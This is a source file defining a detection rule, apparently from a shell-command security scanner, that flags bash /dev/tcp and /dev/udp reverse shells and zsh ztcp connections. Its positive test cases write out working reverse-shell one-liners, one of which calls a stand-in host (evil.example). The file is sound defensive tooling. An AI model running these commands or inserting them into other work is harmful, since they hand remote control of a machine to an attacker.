import { defineRule, perInvocation } from './rule.js';

const DEV = /\/dev\/(tcp|udp)\/([^/\s]+)\/(\d+)/;

export const rule = defineRule({
  id: 'dev_tcp_socket',
  category: 'reverse_shell',
  severity: 'critical',
  technique: 'T1059.004',
  title: "Opens a raw network connection with bash's /dev/tcp (the classic reverse shell)",
  check: perInvocation((inv) => {
    const r = inv.redirects.find((x) => DEV.test(x.target));
    const a = inv.args.find((x) => DEV.test(x));
    if (inv.program === 'ztcp' && !inv.args.some((x) => x.startsWith('-'))) return `zsh's ztcp opens a raw connection to ${inv.args.join(' port ')}, the zsh form of a /dev/tcp reverse shell`;
    const m = DEV.exec(r?.target ?? a ?? '');
    if (!m) return undefined;
    return `connects ${inv.program}'s input/output to ${m[2]} port ${m[3]} over ${m[1]!.toUpperCase()}, handing control of this shell to that machine`;
  }),
  cases: {
    positive: [['bash', 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'], ['bash', 'exec 5<>/dev/tcp/evil.example/80; cat <&5 | while read l; do $l 2>&5 >&5; done'], ['bash', "sh -c 'sh -i >& /dev/udp/1.2.3.4/53 0>&1'"]],
    negative: [['bash', 'echo hi > /dev/null'], ['bash', 'ls /dev/']],
  },
});
